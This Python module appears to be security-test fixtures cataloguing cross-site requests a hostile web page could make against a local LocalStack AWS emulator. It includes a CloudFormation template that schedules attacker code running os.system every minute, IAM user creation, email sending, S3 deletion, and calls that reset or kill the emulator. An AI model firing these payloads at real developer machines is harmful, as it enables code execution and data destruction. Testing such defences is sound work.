"""What an attacker would have the emulator do; MARK stands for a name that tells requests apart."""

from __future__ import annotations

import json
from dataclasses import dataclass, field, replace
from urllib.parse import urlencode

FORM = "application/x-www-form-urlencoded"
JSON_AS_TEXT = "text/plain"  # needs no preflight, and LocalStack reads it as JSON all the same
ROLE = "arn:aws:iam::000000000000:role/anybody"


@dataclass(frozen=True)
class Command:
    """A request; what has headers or a rare method is preceded by a preflight in a browser."""

    target: str
    method: str = "GET"
    body: str = ""
    type: str = ""
    headers: dict[str, str] = field(default_factory=dict)

    def about(self, mark: str) -> Command:
        """The same, with the mark put in."""
        return replace(
            self, target=self.target.replace("MARK", mark), body=self.body.replace("MARK", mark)
        )


def _query(version: str, **parameters: str) -> str:
    return urlencode({"Version": version, **parameters})


def _amz(service: str, operation: str, body: dict[str, object], version: str = "1.0") -> Command:
    headers = {"X-Amz-Target": f"{service}.{operation}"}
    return Command("/?MARK", "POST", json.dumps(body), f"application/x-amz-json-{version}", headers)


# Code of the attacker's own, started every minute: a role, a function, and a rule.
CODE = "import os\ndef handle(event, context):\n    os.system('id')\n"
TEMPLATE = json.dumps(
    {
        "Resources": {
            "Role": {
                "Type": "AWS::IAM::Role",
                "Properties": {"AssumeRolePolicyDocument": {"Statement": []}},
            },
            "Function": {
                "Type": "AWS::Lambda::Function",
                "Properties": {
                    "Code": {"ZipFile": CODE},
                    "Handler": "index.handle",
                    "Runtime": "python3.13",
                    "Role": {"Fn::GetAtt": ["Role", "Arn"]},
                },
            },
            "EveryMinute": {
                "Type": "AWS::Events::Rule",
                "Properties": {
                    "ScheduleExpression": "rate(1 minute)",
                    "Targets": [{"Id": "f", "Arn": {"Fn::GetAtt": ["Function", "Arn"]}}],
                },
            },
        }
    }
)
STACK = _query(
    "2010-05-15",
    Action="CreateStack",
    StackName="MARK",
    TemplateBody=TEMPLATE,
    **{"Capabilities.member.1": "CAPABILITY_IAM"},
)
QUEUE = _query("2012-11-05", Action="CreateQueue", QueueName="MARK")
SIGNED = urlencode(
    {
        "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
        "X-Amz-Credential": "test/20260101/us-east-2/s3/aws4_request",
        "X-Amz-Date": "20260101T000000Z",
        "X-Amz-Expires": "604800",
        "X-Amz-SignedHeaders": "host",
        "X-Amz-Signature": "0" * 64,
    }
)
FUNCTION = json.dumps(
    {
        "FunctionName": "MARK",
        "Role": ROLE,
        "Runtime": "python3.13",
        "Handler": "app.handle",
        "Code": {"ZipFile": "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="},
    }
)

CREATE_QUEUE = Command(f"/?{QUEUE}")
CREATE_QUEUE_BY_POST = Command("/?MARK", "POST", QUEUE, FORM)

# By GET: an image can do it, and so can a link.
BY_GET = {
    "CloudFormation CreateStack": Command(f"/?{STACK}"),
    "SQS CreateQueue": CREATE_QUEUE,
    "SQS CreateQueue, presigned": Command(f"/?{QUEUE}&{SIGNED.replace('%2Fs3%2F', '%2Fsqs%2F')}"),
    "SNS CreateTopic": Command(f"/?{_query('2010-03-31', Action='CreateTopic', Name='MARK')}"),
    "IAM CreateUser": Command(f"/?{_query('2010-05-08', Action='CreateUser', UserName='MARK')}"),
    "SES SendEmail": Command(
        "/?"
        + _query(
            "2010-12-01",
            Action="SendEmail",
            Source="shop@example.com",
            **{
                "Destination.ToAddresses.member.1": "MARK@example.com",
                "Message.Subject.Data": "MARK",
                "Message.Body.Text.Data": "MARK",
            },
        )
    ),
    "S3 ListBuckets": Command("/?MARK"),
    "S3 GetObject": Command("/BUCKET/page.html?MARK"),
    "S3 GetObject, presigned": Command(f"/BUCKET/page.html?{SIGNED}&MARK"),
    "Lambda ListFunctions": Command("/2015-03-31/functions?MARK"),
    "health": Command("/_localstack/health?MARK"),
    "mails": Command("/_aws/ses?MARK"),
    "messages of a queue": Command("/_aws/sqs/messages?QueueUrl=QUEUE&MARK"),
    "an API's route": Command("/_aws/execute-api/API/v1/orders?MARK"),
    "an API's route, the older address": Command("/restapis/API/v1/_user_request_/orders?MARK"),
}

# By POST, as a form or a script can do it without asking first.
BY_POST = {
    "CloudFormation CreateStack": Command("/?MARK", "POST", STACK, FORM),
    "SQS CreateQueue": CREATE_QUEUE_BY_POST,
    "SQS SendMessage": Command(
        "/000000000000/NAME?MARK",
        "POST",
        _query("2012-11-05", Action="SendMessage", MessageBody="MARK"),
        FORM,
    ),
    "Lambda CreateFunction": Command("/2015-03-31/functions?MARK", "POST", FUNCTION, JSON_AS_TEXT),
    "API Gateway CreateRestApi": Command(
        "/restapis?MARK", "POST", json.dumps({"name": "MARK"}), JSON_AS_TEXT
    ),
    "S3 DeleteObjects": Command(
        "/BUCKET?delete&MARK",
        "POST",
        "<Delete><Object><Key>page.html</Key></Object></Delete>",
        JSON_AS_TEXT,
    ),
    "an order at an API": Command(
        "/_aws/execute-api/API/v1/orders?MARK", "POST", "{}", JSON_AS_TEXT
    ),
    "an order at an API, the older address": Command(
        "/restapis/API/v1/_user_request_/orders?MARK", "POST", "{}", JSON_AS_TEXT
    ),
}

# What a browser asks about first; no stranger's preflight is granted.
PREFLIGHTED = {
    "SQS CreateQueue": _amz("AmazonSQS", "CreateQueue", {"QueueName": "MARK"}),
    "DynamoDB CreateTable": _amz("DynamoDB_20120810", "CreateTable", {"TableName": "MARK"}),
    "Step Functions CreateStateMachine": _amz(
        "AWSStepFunctions", "CreateStateMachine", {"name": "MARK"}
    ),
    "S3 CreateBucket": Command("/MARK", "PUT"),
    "S3 PutObject": Command("/BUCKET/MARK", "PUT", "MARK", JSON_AS_TEXT),
    "S3 DeleteObject": Command("/BUCKET/page.html?MARK", "DELETE"),
    "mails cleared": Command("/_aws/ses?MARK", "DELETE"),
    "calls noted": Command("/_host/calls?MARK", "PUT"),
    "calls read": Command("/_host/calls?MARK", "DELETE"),
    "an order at an API": Command(
        "/_aws/execute-api/API/v1/orders?MARK", "POST", "{}", "application/json"
    ),
    "an order deleted at an API": Command("/_aws/execute-api/API/v1/orders?MARK", "DELETE"),
}

# What would leave nothing for the other tests to look at; these come last.
DESTRUCTIVE = {
    "reset of the state": Command("/_localstack/state/reset?MARK", "POST"),
    "end of the emulator": Command(
        "/_localstack/health?MARK", "POST", json.dumps({"action": "kill"}), JSON_AS_TEXT
    ),
}
